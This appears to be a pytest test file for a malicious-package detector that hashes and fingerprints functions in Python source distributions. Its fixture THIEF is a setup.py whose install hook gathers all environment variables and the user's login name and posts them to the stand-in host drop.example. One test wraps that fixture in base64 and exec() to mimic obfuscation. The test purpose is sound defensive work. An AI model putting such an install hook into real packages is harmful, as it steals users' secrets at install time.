from __future__ import annotations

import time

import pytest

from antivenom import pipeline
from antivenom.analysis.normal import normalise
from antivenom.intake import from_bytes
from antivenom.model import fingerprint
from antivenom.model.profile import ManifestEntry, Profile
from tests.builders.archives import sdist

THIEF = """\
import os
import requests
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        found = dict(os.environ)
        requests.post("https://drop.example/a", json={"who": os.getlogin(), "what": found})


def greet(name):
    print("hello", name, "and welcome to this package")
    return name


setup(name="demo", version="1.0", cmdclass={"install": Install})
"""


def profile_of(text: str, **files: str) -> Profile:
    data = sdist({"setup.py": text, **files})
    return pipeline.observe(from_bytes(data, "demo-1.0.tar.gz"))


def setup_of(text: str) -> ManifestEntry:
    return next(e for e in profile_of(text).manifest if e.path.endswith("setup.py"))


def test_functions_are_hashed_by_qualified_name() -> None:
    entry = setup_of(THIEF)
    assert list(entry.functions) == ["", "Install.run", "greet"]
    assert len(set(entry.functions.values())) == 3
    assert all(len(value) == 20 for value in entry.functions.values())


def test_comments_and_blank_lines_change_no_hash() -> None:
    noisy = THIEF.replace("        found", "\n        # what we want\n        found")
    noisy = noisy.replace("import os\n", "import os  # first\n\n\n")
    assert setup_of(noisy).functions == setup_of(THIEF).functions


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("os.getlogin()", "os.getpid()"),
        ("drop.example", "drop2.example"),
        ("        found = dict(os.environ)", "        found = dict( os.environ)"),
    ],
)
def test_code_and_literals_change_the_hash_of_their_function_alone(old: str, new: str) -> None:
    before, after = setup_of(THIEF).functions, setup_of(THIEF.replace(old, new)).functions
    assert before["Install.run"] != after["Install.run"]
    assert before["greet"] == after["greet"]
    assert before[""] == after[""]


def test_indentation_inside_a_function_counts_and_around_it_does_not() -> None:
    text = "def f(a):\n    if a:\n        one(a, 1)\n    two(a, 2)\n"
    moved = "if x:\n  def f(a):\n      if a:\n          one(a, 1)\n      two(a, 2)\n"
    inside = "def f(a):\n    if a:\n        one(a, 1)\n        two(a, 2)\n"
    assert normalise(text, "python").hash(1, 4) == normalise(moved, "python").hash(2, 5)
    assert normalise(text, "python").hash(1, 4) != normalise(inside, "python").hash(1, 4)


def test_blanks_inside_a_long_literal_count() -> None:
    one = normalise('exec("""\na = 1  \n\nb = 2\n""")\n', "python")
    two = normalise('exec("""\na = 1\n\nb = 2\n""")\n', "python")
    assert one.hash(1, 5) != two.hash(1, 5)
    assert one.masked == two.masked


def test_a_getter_and_its_setter_are_one_entry() -> None:
    text = THIEF + (
        "class A:\n"
        "    @property\n"
        "    def value(self):\n        return os.environ['SOME_LONG_NAME_OF_A_VARIABLE']\n"
        "    @value.setter\n"
        "    def value(self, new):\n        os.environ['SOME_LONG_NAME_OF_A_VARIABLE'] = new\n"
    )
    changed = text.replace("VARIABLE'] = new", "VARIABLE'] = str(new)")
    assert setup_of(text).functions["A.value"] != setup_of(changed).functions["A.value"]


def test_names_and_literals_do_not_change_the_skeleton() -> None:
    other = THIEF.replace("found", "f0und_2").replace("drop.example/a", "x.invalid/b?c")
    assert setup_of(other).skeleton == setup_of(THIEF).skeleton != ""
    more = THIEF.replace("install.run(self)", "install.run(self, self)")
    assert setup_of(more).skeleton != setup_of(THIEF).skeleton


def test_a_copy_with_other_literals_has_the_same_fingerprint() -> None:
    other = THIEF.replace("drop.example", "other.invalid").replace('"1.0"', '"7.3"')
    assert setup_of(other).fingerprint == setup_of(THIEF).fingerprint != ""


def test_a_changed_copy_has_a_near_fingerprint() -> None:
    other = THIEF.replace("import requests\n", "import requests\nimport json\n")
    one = fingerprint.parse(setup_of(THIEF).fingerprint)
    two = fingerprint.parse(setup_of(other).fingerprint)
    assert one is not None
    assert two is not None
    assert 0.75 < one.resemblance(two) < 1.0


def test_decoded_layers_are_printed_too() -> None:
    import base64

    inner = base64.b64encode(THIEF.encode()).decode()
    profile = profile_of(f"import base64\nexec(base64.b64decode('{inner}'))\n")
    assert [p.layer for p in profile.layer_prints] == [profile.layers[0].id]
    assert profile.layer_prints[0].fingerprint == setup_of(THIEF).fingerprint


def test_many_functions_are_bounded_and_counted() -> None:
    body = "".join(
        f"def f{n}():\n    return os.system('echo this is function number {n}')\n"
        for n in range(3000)
    )
    profile = profile_of(THIEF, **{"demo/__init__.py": "import os\n" + body})
    hashed = sum(len(e.functions) for e in profile.manifest)
    assert hashed == 2500
    assert profile.unhashed == 504
    assert "Install.run" in next(e for e in profile.manifest if "setup.py" in e.path).functions


@pytest.mark.parametrize("lang", ["python", "javascript", "shell", "batch", "nothing known"])
@pytest.mark.parametrize(
    "piece",
    ['"""', '\\"""', "'", '"', "`", "/*", "/**", "#", "//", '\\"', "'''\\", '""', ";", ",", "\r"],
)
def test_hostile_text_costs_its_length(lang: str, piece: str) -> None:
    started = time.process_time()
    normal = normalise(piece * 200_000, lang)
    normal.hashes()
    normal.skeleton()
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize("text", ["", "\n", "\0", "\ud800", "'", "\r\r\n"])
def test_any_text_is_normalised(text: str) -> None:
    normal = normalise(text, "python")
    assert normal.hash(1, 3)
    assert normal.skeleton()
    assert isinstance(normal.hashes(), set)
